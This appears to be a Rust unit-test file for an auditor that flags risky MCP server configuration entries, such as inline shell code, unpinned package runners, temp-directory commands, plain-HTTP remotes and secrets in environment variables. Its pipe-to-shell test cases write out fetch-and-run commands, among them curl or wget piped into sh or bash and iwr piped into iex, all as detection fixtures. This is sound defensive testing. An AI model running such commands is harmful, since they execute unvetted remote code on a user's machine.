//! Unit tests of the rules that existed before issue 13; the new misses,
//! false positives and guarded entries are in `tests_rules`.

use serde_json::{Value, json};

use super::*;

pub(super) fn never_writable(_: &Path) -> bool {
    false
}

pub(super) fn real_policy(path: &Path) -> Result<GuardPolicy, String> {
    load_guard_policy(path)
}

/// A machine where nothing is world-writable, home is /home/me and
/// relative policies are looked up in a directory that does not exist.
pub(super) fn probes() -> Probes<'static> {
    Probes {
        world_writable: &never_writable,
        guard_policy: &real_policy,
        config_dir: PathBuf::from("/nonexistent/ffmcp-audit-test"),
        home: Some(PathBuf::from("/home/me")),
    }
}

/// Rule ids reported for one stdio entry.
pub(super) fn rules(command: &str, args: &[&str]) -> Vec<&'static str> {
    rules_for(json!({ "command": command, "args": args }))
}

fn rules_for(entry: Value) -> Vec<&'static str> {
    findings_for(entry).iter().map(|f| f.rule).collect()
}

fn findings_for(entry: Value) -> Vec<Finding> {
    let report = audit(&json!({ "mcpServers": { "s": entry } }), &probes()).expect("object");
    report.findings().cloned().collect()
}

/// Checks a table of (command, args, expected rules).
fn check(table: &[(&str, &[&str], &[&str])]) {
    for (command, args, expected) in table {
        assert_eq!(&rules(command, args), expected, "{command} {args:?}");
    }
}

#[test]
fn inline_code_in_shells_and_interpreters() {
    let inline: &[&str] = &["inline-code"];
    let clean: &[&str] = &[];
    check(&[
        ("sh", &["-c", "exec server"], inline),
        ("/bin/bash", &["-lc", "exec server"], inline),
        ("bash", &["-o", "pipefail", "-ec", "exec server"], inline),
        ("zsh", &["-c", "x"], inline),
        ("dash", &["-c", "x"], inline),
        ("fish", &["--command", "x"], inline),
        (
            "C:\\Windows\\System32\\cmd.exe",
            &["/c", "server.exe"],
            inline,
        ),
        ("cmd", &["/d", "/s", "/C", "server.exe"], inline),
        ("python", &["-c", "print(1)"], inline),
        ("python3", &["-Ic", "print(1)"], inline),
        ("python3.12", &["-u", "-c", "print(1)"], inline),
        ("node", &["-e", "require('x')"], inline),
        ("node", &["--eval=require('x')"], inline),
        ("node", &["-p", "1"], inline),
        ("node.exe", &["-r", "dotenv/config", "--eval", "x"], inline),
        ("perl", &["-e", "print 1"], inline),
        ("perl", &["-lne", "print"], inline),
        ("ruby", &["-e", "puts 1"], inline),
        ("deno", &["eval", "console.log(1)"], inline),
        (
            "powershell",
            &["-NoProfile", "-Command", "Start-Server"],
            inline,
        ),
        (
            "powershell.exe",
            &["-ExecutionPolicy", "Bypass", "-c", "x"],
            inline,
        ),
        ("pwsh", &["-EncodedCommand", "ZQBjAGgAbwA="], inline),
        ("pwsh", &["-ec", "ZQBjAGgAbwA="], inline),
        ("powershell", &["Start-Server"], inline),
        ("npx", &["-c", "server --stdio"], inline),
        // Scripts, modules and plain flags are not inline code.
        ("bash", &["script.sh"], clean),
        ("/bin/bash", &["/opt/mcp/run.sh", "-c", "config"], clean),
        ("bash", &["--login", "/opt/mcp/run.sh"], clean),
        ("cmd", &["server.exe"], clean),
        ("python3", &["-m", "example_server"], clean),
        ("python", &["-u", "/opt/server.py", "-c", "cfg"], clean),
        ("node", &["/opt/server/index.js", "-e", "x"], clean),
        (
            "node",
            &["--max-old-space-size=4096", "/opt/server.js"],
            clean,
        ),
        ("perl", &["-I", "lib", "/opt/server.pl"], clean),
        ("ruby", &["-rjson", "/opt/server.rb"], clean),
        (
            "deno",
            &["run", "--allow-net", "jsr:@scope/server@1.0.0"],
            clean,
        ),
        (
            "pwsh",
            &["-NoProfile", "-File", "C:\\mcp\\server.ps1"],
            clean,
        ),
        ("pwsh", &["C:\\mcp\\server.ps1"], clean),
        (
            "powershell",
            &["-ExecutionPolicy", "Bypass", "-File", "C:\\mcp\\server.ps1"],
            clean,
        ),
    ]);
}

#[test]
fn inline_code_is_found_behind_env_and_runs_inner_checks() {
    assert_eq!(
        rules("/usr/bin/env", &["FOO=1", "bash", "-c", "x"]),
        ["inline-code"]
    );
    assert_eq!(
        rules("cmd", &["/c", "npx", "-y", "some-server"]),
        ["inline-code", "unpinned-package"]
    );
    assert_eq!(
        rules("sh", &["-c", "npx -y some-server"]),
        ["inline-code", "unpinned-package"]
    );
    assert_eq!(
        rules("cmd", &["/c", "npx", "-y", "some-server@1.0.0"]),
        ["inline-code"]
    );
}

#[test]
fn pipes_into_shells() {
    let piped: &[&str] = &["pipe-to-shell"];
    let clean: &[&str] = &[];
    check(&[
        ("/opt/run", &["curl -fsSL https://x.test/i.sh | sh"], piped),
        ("/opt/run", &["wget -O- https://x.test/i.sh|bash"], piped),
        (
            "/opt/run",
            &["curl https://x.test | sudo -E bash -s"],
            piped,
        ),
        ("/opt/run", &["curl https://x.test | python3 -"], piped),
        ("/opt/run", &["iwr https://x.test/i.ps1 | iex"], piped),
        (
            "/opt/run",
            &["Invoke-Expression (iwr https://x.test)"],
            piped,
        ),
        ("/opt/run", &["bash <(curl -s https://x.test)"], piped),
        (
            "/opt/run",
            &["--filter", "a|b", "--x", "true || false"],
            clean,
        ),
        ("/opt/run", &["--index", "/var/lib/iex-data"], clean),
    ]);
    assert_eq!(
        rules("bash", &["-c", "curl -s https://x.test | bash"]),
        ["inline-code", "pipe-to-shell"]
    );
}

#[test]
fn unpinned_package_runners() {
    let unpinned: &[&str] = &["unpinned-package"];
    let clean: &[&str] = &[];
    check(&[
        ("npx", &["-y", "pkg"], unpinned),
        ("npx", &["pkg"], unpinned),
        ("npx", &["--yes", "pkg@latest"], unpinned),
        ("npx", &["-y", "pkg@^1.2.3"], unpinned),
        ("npx", &["-y", "pkg@1"], unpinned),
        ("npx", &["-y", "pkg@next"], unpinned),
        ("npx", &["-y", "@scope/pkg"], unpinned),
        ("npx", &["-y", "@scope/pkg@latest"], unpinned),
        ("npx.cmd", &["-y", "pkg"], unpinned),
        ("npx", &["--package", "pkg", "pkg-bin"], unpinned),
        ("npx", &["-p=x"], clean), // `-p=x` is not how npx spells it; first operand missing
        ("bunx", &["pkg"], unpinned),
        ("pnpm", &["dlx", "pkg"], unpinned),
        ("yarn", &["dlx", "-q", "pkg"], unpinned),
        ("npm", &["exec", "--yes", "--", "pkg"], unpinned),
        ("uvx", &["mcp-server-fetch"], unpinned),
        ("uvx", &["mcp-server-fetch@latest"], unpinned),
        ("uvx", &["mcp-server-fetch>=1.0"], unpinned),
        ("uvx", &["--from", "pkg", "cmd"], unpinned),
        ("uv", &["tool", "run", "pkg"], unpinned),
        ("pipx", &["run", "pkg"], unpinned),
        ("pipx", &["run", "--spec", "pkg>=2", "cmd"], unpinned),
        // Pinned, local or not a runner at all.
        ("npx", &["-y", "pkg@1.2.3"], clean),
        ("npx", &["-y", "pkg@v1.2.3-beta.1"], clean),
        ("npx", &["-y", "@scope/pkg@1.2.3", "--flag", "value"], clean),
        ("npx", &["-y", "--package=pkg@1.2.3", "pkg-bin"], clean),
        ("npx", &["-y", "./local-server"], clean),
        ("bunx", &["pkg@1.0.0"], clean),
        ("pnpm", &["dlx", "pkg@1.0.0"], clean),
        ("pnpm", &["exec", "server"], clean),
        ("npm", &["run", "start"], clean),
        ("uvx", &["mcp-server-fetch==2025.4.7"], clean),
        ("uvx", &["mcp-server-fetch@2025.4.7"], clean),
        (
            "uvx",
            &["--python", "3.12", "--from", "pkg[extra]==1.0", "cmd"],
            clean,
        ),
        ("pipx", &["run", "--spec", "pkg==1.0", "cmd"], clean),
        ("pipx", &["install", "pkg"], clean),
        ("uv", &["run", "server.py"], clean),
    ]);
}

#[test]
fn unpinned_package_message_names_the_package_and_a_fix() {
    let findings = findings_for(json!({ "command": "npx", "args": ["-y", "@scope/pkg@latest"] }));
    let [f] = findings.as_slice() else {
        panic!("one finding expected: {findings:?}");
    };
    assert_eq!(f.severity, Severity::Medium);
    assert!(f.message.contains("@scope/pkg@latest"), "{}", f.message);
    assert!(f.fix.contains("@scope/pkg@X.Y.Z"), "{}", f.fix);
    // Running whatever the registry serves today is what guard confines.
    assert!(
        f.suggestion.is_some(),
        "unpinned packages get the guarded form"
    );
    // A leaked secret is not fixed by confinement.
    let secret = findings_for(json!({
        "command": "/usr/bin/server",
        "env": { "API_TOKEN": "sk-abcdefghijklmnopqrstuvwx" },
    }));
    assert_eq!(secret[0].rule, "secret-in-env");
    assert!(secret[0].suggestion.is_none(), "{secret:?}");
}

#[test]
fn command_locations() {
    check(&[
        ("/tmp/server", &[], &["writable-path"]),
        ("/var/tmp/x/server", &[], &["writable-path"]),
        ("/dev/shm/server", &[], &["writable-path"]),
        ("%TEMP%\\server.exe", &[], &["writable-path"]),
        (
            "C:\\Users\\me\\AppData\\Local\\Temp\\server.exe",
            &[],
            &["writable-path"],
        ),
        ("./server", &[], &["relative-command"]),
        ("bin/server", &[], &["relative-command"]),
        ("..\\server.exe", &[], &["relative-command"]),
        ("/usr/local/bin/server", &[], &[]),
        ("C:\\Program Files\\Server\\server.exe", &[], &[]),
        ("~/bin/server", &[], &[]),
        ("server", &[], &[]),
        // A temp dir as an argument (a filesystem root, say) is fine.
        ("/usr/local/bin/fs-server", &["/tmp"], &[]),
    ]);
}

#[test]
fn world_writable_directories_are_probed() {
    let config = json!({ "mcpServers": {
        "a": { "command": "/srv/shared/server" },
        "b": { "command": "/usr/bin/server" },
        "c": { "command": "server" },
    }});
    let probed = std::cell::RefCell::new(Vec::new());
    let probe = |dir: &Path| {
        probed.borrow_mut().push(dir.to_path_buf());
        dir == Path::new("/srv/shared")
    };
    let probes = Probes {
        world_writable: &probe,
        ..probes()
    };
    let report = audit(&config, &probes).expect("object");
    let rules: Vec<_> = report
        .findings()
        .map(|f| (f.server.as_str(), f.rule))
        .collect();
    assert_eq!(rules, [("a", "writable-path")]);
    assert_eq!(
        *probed.borrow(),
        [PathBuf::from("/srv/shared"), PathBuf::from("/usr/bin")]
    );
}

#[test]
fn plain_http_remotes() {
    let cases: &[(Value, &[&str])] = &[
        (
            json!({ "url": "http://mcp.example.com/mcp" }),
            &["insecure-remote"],
        ),
        (
            json!({ "type": "sse", "serverUrl": "http://10.0.0.5:8080/sse" }),
            &["insecure-remote"],
        ),
        (json!({ "url": "HTTP://Example.com" }), &["insecure-remote"]),
        (
            json!({ "url": "http://127.0.0.1.example.com/mcp" }),
            &["insecure-remote"],
        ),
        (json!({ "url": "https://mcp.example.com/mcp" }), &[]),
        (json!({ "url": "http://localhost:8765/mcp" }), &[]),
        (json!({ "url": "http://127.0.0.1:8765/mcp" }), &[]),
        (json!({ "url": "http://[::1]:8765/mcp" }), &[]),
        (json!({ "url": "http://app.localhost/mcp" }), &[]),
        (
            json!({ "command": "npx", "args": ["-y", "mcp-remote@0.1.29", "http://mcp.example.com/sse"] }),
            &["insecure-remote"],
        ),
        (
            json!({ "command": "npx", "args": ["-y", "mcp-remote@0.1.29", "http://localhost:8765/mcp"] }),
            &[],
        ),
    ];
    for (entry, expected) in cases {
        assert_eq!(&rules_for(entry.clone()), expected, "{entry}");
    }
}

#[test]
fn high_stdio_findings_suggest_the_guarded_entry() {
    let findings = findings_for(json!({ "command": "bash", "args": ["-c", "exec server"] }));
    let suggestion = findings[0].suggestion.as_ref().expect("suggestion");
    assert_eq!(
        *suggestion,
        json!({ "command": "ffmcp", "args": ["guard", "--policy", "<policy.toml>", "--", "bash", "-c", "exec server"] })
    );
    // Remote entries cannot be wrapped; guarded entries already are.
    let remote = findings_for(json!({ "url": "http://mcp.example.com/mcp" }));
    assert!(remote[0].suggestion.is_none());
    let guarded = findings_for(json!({
        "command": "ffmcp",
        "args": ["guard", "--policy", "p.toml", "--", "bash", "-c", "exec server"],
    }));
    // Its policy cannot be read here: what it runs is reported as is.
    assert_eq!(
        guarded.iter().map(|f| f.rule).collect::<Vec<_>>(),
        ["inline-code", "guard-policy-unreadable"]
    );
    assert!(guarded.iter().all(|f| f.suggestion.is_none()));
}

#[test]
fn server_tables_of_every_client_shape() {
    let entry = json!({ "command": "npx", "args": ["pkg"] });
    for config in [
        json!({ "mcpServers": { "s": entry } }),
        json!({ "servers": { "s": entry } }),
        json!({ "mcp": { "servers": { "s": entry } } }),
        json!({ "mcp.servers": { "s": entry } }),
    ] {
        let report = audit(&config, &probes()).expect("object");
        assert_eq!(report.servers.len(), 1, "{config}");
        assert_eq!(report.count(Severity::Medium), 1, "{config}");
    }
    let empty = audit(&json!({ "globalShortcut": "x" }), &probes()).expect("object");
    assert!(empty.servers.is_empty());
    assert!(render_text(Path::new("c.json"), &empty).contains("no MCP servers found"));
    assert!(audit(&json!([1, 2]), &probes()).is_err());
}

#[test]
fn malformed_entries_are_low_findings() {
    assert_eq!(rules_for(json!("npx pkg")), ["invalid-entry"]);
    assert_eq!(rules_for(json!({ "env": {} })), ["invalid-entry"]);
}

#[test]
fn jsonc_comments_and_trailing_commas_parse_and_errors_keep_positions() {
    let text = "{\n  // comment with \"quote\"\n  \"servers\": { /* x */ \"s\": {\"command\": \"a//b\",}, },\n}\n";
    let value = parse_config(text).expect("jsonc parses");
    assert_eq!(value["servers"]["s"]["command"], "a//b");
    let err = parse_config("{\n  // note\n  \"a\": 1\n  \"b\": 2\n}").expect_err("missing comma");
    assert_eq!((err.line(), err.column()), (4, 3));
    assert!(
        parse_config("\u{feff}{}").is_ok(),
        "a byte-order mark is allowed"
    );
}

#[test]
fn text_report_groups_by_server_and_summarises() {
    let config = json!({ "mcpServers": {
        "clean": { "command": "/usr/bin/server" },
        "risky": { "command": "npx", "args": ["pkg"], "env": { "API_KEY": "abcd1234efgh5678" } },
    }});
    let report = audit(&config, &probes()).expect("object");
    let text = render_text(Path::new("c.json"), &report);
    assert!(text.contains("clean: no findings"), "{text}");
    assert!(text.contains("[HIGH]   secret-in-env"), "{text}");
    assert!(text.contains("[MEDIUM] unpinned-package"), "{text}");
    assert!(
        text.trim_end().ends_with("1 high, 1 medium, 0 low"),
        "{text}"
    );
    let high = text.find("[HIGH]").expect("high");
    let medium = text.find("[MEDIUM]").expect("medium");
    assert!(high < medium, "most severe first");
    let json = render_json(Path::new("c.json"), &report);
    assert_eq!(json["servers"], 2);
    assert_eq!(json["summary"], json!({ "high": 1, "medium": 1, "low": 0 }));
}

#[test]
fn default_config_locations() {
    let env = |pairs: &'static [(&'static str, &'static str)]| {
        move |name: &str| {
            pairs
                .iter()
                .find(|(k, _)| *k == name)
                .map(|(_, v)| std::ffi::OsString::from(v))
        }
    };
    if cfg!(all(unix, not(target_os = "macos"))) {
        let path =
            default_config_path(env(&[("XDG_CONFIG_HOME", "/x"), ("HOME", "/h")])).expect("path");
        assert_eq!(path, Path::new("/x/Claude/claude_desktop_config.json"));
        let path =
            default_config_path(env(&[("XDG_CONFIG_HOME", ""), ("HOME", "/h")])).expect("path");
        assert_eq!(
            path,
            Path::new("/h/.config/Claude/claude_desktop_config.json")
        );
        assert!(default_config_path(env(&[])).is_err());
    }
    if cfg!(target_os = "macos") {
        let path = default_config_path(env(&[("HOME", "/h")])).expect("path");
        assert_eq!(
            path,
            Path::new("/h/Library/Application Support/Claude/claude_desktop_config.json")
        );
    }
}
